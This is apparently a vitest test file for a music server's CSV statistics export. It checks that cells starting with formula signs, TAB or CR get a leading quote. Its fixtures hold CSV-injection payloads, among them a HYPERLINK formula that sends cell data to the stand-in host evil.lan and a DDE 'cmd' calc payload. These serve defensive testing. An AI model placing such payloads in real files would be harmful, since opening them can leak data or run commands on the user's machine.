import { beforeAll, expect, it } from 'vitest';
import { fakeScanner, makeLibrary } from '../factories/library.js';
import { makeUser, type TestUser } from '../factories/users.js';
import { postJson, useTestServer } from '../support/server.js';

/**
 * Tags and device names are anyone's text: a title of `=HYPERLINK(…)` in a CSV export runs as a
 * formula when the file is opened in a spreadsheet. OWASP's rule: a cell that starts with `=`, `+`,
 * `-`, `@`, a TAB or a CR gets a leading `'`, so the spreadsheet shows it as text. A TAB or CR
 * before the `=` is the spelling that slipped through a check for the four signs alone.
 */
const FORMULAS = {
  artist: '\t=HYPERLINK("http://evil.lan/?"&A1,"Click")',
  album: '\r=1+1',
  title: "@SUM(1+1)*cmd|' /C calc'!A0",
};
const t = useTestServer({
  scanner: fakeScanner(
    makeLibrary({
      artists: [{ id: 'ar1', name: FORMULAS.artist }],
      albums: [{ id: 'al1', name: FORMULAS.album, artistIds: ['ar1'] }],
      tracks: [{ id: 't1', name: FORMULAS.title, artistIds: ['ar1'] }],
    }),
  ),
});
let user: TestUser;

beforeAll(async () => {
  user = await makeUser(t);
  for (const device of ['+1-555-0100 phone', '-2+3 speaker', '=cmd|calc']) {
    expect((await postJson(t, '/api/stats/log-play', { id: 't1', device }, user.token)).status).toBe(200);
  }
});

/** The cells of a CSV text (RFC 4180: quotes doubled inside quoted cells; quoted CR and LF kept). */
function cellsOf(text: string): string[][] {
  const rows: string[][] = [[]];
  let cell = '';
  let quoted = false;
  const endCell = () => {
    rows.at(-1)!.push(cell);
    cell = '';
  };
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i]!;
    if (quoted && c === '"' && text[i + 1] === '"') {
      cell += '"';
      i += 1;
    } else if (c === '"') {
      quoted = !quoted;
    } else if (quoted) {
      cell += c;
    } else if (c === ',') {
      endCell();
    } else if (c === '\n') {
      endCell();
      rows.push([]);
    } else {
      cell += c;
    }
  }
  return rows.filter((row) => row.length > 0);
}

it('a CSV export never starts a cell with a formula sign, a TAB or a CR: those cells get a leading quote', async () => {
  const response = await t.call(`/api/stats/export?format=csv`, { token: user.token });
  expect(response.status).toBe(200);
  const [header, ...rows] = cellsOf(await response.text());
  expect(header![0]).toBe('artist');
  expect(rows).toHaveLength(3);
  for (const cell of rows.flat()) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/u);
  const row = rows[0]!;
  expect(row.slice(0, 3)).toEqual([`'${FORMULAS.artist}`, `'${FORMULAS.album}`, `'${FORMULAS.title}`]);
  expect(rows.map((r) => r[5]).sort()).toEqual(["'+1-555-0100 phone", "'-2+3 speaker", "'=cmd|calc"]);
});
